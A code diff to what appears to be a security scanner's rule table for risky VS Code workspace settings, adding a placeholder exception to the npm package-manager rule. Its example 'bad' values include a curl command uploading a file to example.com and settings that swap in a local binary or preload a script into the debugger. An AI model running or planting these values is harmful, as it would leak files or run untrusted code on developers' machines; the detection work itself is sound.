@@ -152,6 +152,6 @@ export const VSCODE_EXECUTABLES: readonly VscodeRow[] = [
     bad: ['curl -X POST -d @${file} https://example.com/upload'],
     good: ['npx prettier --write ${file}', 'latexmk', 'cd $dir && node $fileName'],
   },
-  { ...base, id: 'A5-17', key: ['npm.packageManager', 'npm.scriptRunner'], when: (value) => value.kind === 'string' && !/^(?:auto|npm|yarn|pnpm|bun|node|deno)?$/.test(textOf(value)), source: VSC, data: live(), bad: ['./x/npm', 'bash'], good: ['auto', 'npm', 'pnpm', 'yarn', 'bun', 'node'] },
+  { ...base, id: 'A5-17', key: ['npm.packageManager', 'npm.scriptRunner'], when: (value) => value.kind === 'string' && !/^[[<{]/.test(textOf(value)) && !/^(?:auto|npm|yarn|pnpm|bun|node|deno)?$/.test(textOf(value)), source: VSC, data: live(), bad: ['./x/npm', 'bash'], good: ['auto', 'npm', 'pnpm', 'yarn', 'bun', 'node', '[REPLACE_ME]'] },
   { ...base, id: 'A5-19', key: 'debug.javascript.terminalOptions.runtimeArgs', when: loaderArgument, source: VSC, data: live(), bad: [['--require', './.vscode/x.js']], good: [['--inspect'], []] },
 ];
